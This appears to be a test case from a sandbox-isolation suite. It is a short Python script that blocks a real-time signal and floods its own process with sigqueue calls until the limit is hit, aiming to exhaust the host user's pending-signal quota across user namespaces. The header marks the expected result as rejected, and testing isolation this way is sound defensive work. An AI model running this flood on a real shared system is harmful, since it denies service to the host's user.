# id: os-sigqueue-flood
# category: os
# technique: queue real-time signals to itself with the signal blocked until EAGAIN: pending signals are charged up the user namespaces to the host's user
# success: the host's user cannot queue a signal while the session is open
# expected: rejected
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)


class SigVal(ctypes.Union):
    _fields_ = [("sival_int", ctypes.c_int), ("sival_ptr", ctypes.c_void_p)]


number = signal.SIGRTMIN + 2
signal.pthread_sigmask(signal.SIG_BLOCK, [number])
queued = 0
while queued < 200_000 and libc.sigqueue(os.getpid(), number, SigVal(queued)) == 0:
    queued += 1
print("queued", queued, os.strerror(ctypes.get_errno()))
